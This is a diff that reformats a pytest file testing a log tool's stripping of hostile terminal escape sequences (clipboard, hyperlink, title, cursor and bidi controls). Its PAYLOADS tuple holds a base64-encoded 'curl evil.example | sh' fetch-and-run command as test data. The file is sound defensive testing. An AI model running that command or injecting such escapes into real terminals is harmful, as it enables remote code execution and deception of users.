@@ -33,8 +33,7 @@ HOSTILE_LINE = (
 )
 # What must never reach a terminal: ESC, C1 controls, C0 other than TAB/LF, DEL, bidi overrides.
 UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
-PAYLOADS = ("Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==", "evil.example", "pwned title", "other title", "ZXZpbA==",
-            "qpayload")
+PAYLOADS = ("Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==", "evil.example", "pwned title", "other title", "ZXZpbA==", "qpayload")
 
 
 def _unsafe(text: str) -> list[str]:
@@ -46,7 +45,8 @@ def hostile_log(tmp_path):
     p = tmp_path / "hostile.log"
     log = (
         "- furiosa-libnux version: 0.8.0 (rev: d9f0d7728 built at 2022-11-01T03:39:34Z)\n"
-        + HOSTILE_LINE + "\n"
+        + HOSTILE_LINE
+        + "\n"
         + f"furiosa.runtime.errors.InternalError: unknown {TITLE}(native error code: 15)\n"
         + f"2023-02-11T06:22:19Z WARN nux: odd {OSC52_CLIPBOARD} warning\n"
     )
@@ -77,9 +77,18 @@ def _crafted_report() -> Report:
     bad = f"{OSC52_CLIPBOARD}{TITLE}{CURSOR_C1}{OSC8_C1}x\ry{BIDI}"
     return Report(
         sources=[SourceInfo(name=f"run{TITLE}.log", notes=[f"note {bad}"])],
-        findings=[Finding(id="crafted", title=f"title {bad}", severity="error", rank=1, why=f"why {bad}",
-                          evidence=[Evidence(line=1, text=f"evidence {bad}", source=f"run{TITLE}.log")],
-                          remediation=[f"step {bad}"], checklist=[f"item {bad}"])],
+        findings=[
+            Finding(
+                id="crafted",
+                title=f"title {bad}",
+                severity="error",
+                rank=1,
+                why=f"why {bad}",
+                evidence=[Evidence(line=1, text=f"evidence {bad}", source=f"run{TITLE}.log")],
+                remediation=[f"step {bad}"],
+                checklist=[f"item {bad}"],
+            )
+        ],
         notes=[f"report note {bad}"],
     )
 
@@ -109,8 +118,9 @@ def test_terminal_safe_escapes_what_is_left_visibly() -> None:
     assert terminal_safe("한국어 로그 ✓") == "한국어 로그 ✓"
 
 
-@pytest.mark.parametrize("seq", [OSC52_CLIPBOARD, OSC52_C1, OSC8_LINK, OSC8_C1, TITLE, TITLE_ST, CURSOR, CURSOR_C1,
-                                 DCS, DCS_C1, RESET])
+@pytest.mark.parametrize(
+    "seq", [OSC52_CLIPBOARD, OSC52_C1, OSC8_LINK, OSC8_C1, TITLE, TITLE_ST, CURSOR, CURSOR_C1, DCS, DCS_C1, RESET]
+)
 def test_strip_terminal_removes_whole_sequences(seq: str) -> None:
     out = strip_terminal(f"before{seq}after")
     assert out in ("beforeafter", "beforeclick hereafter", "beforeclickafter")
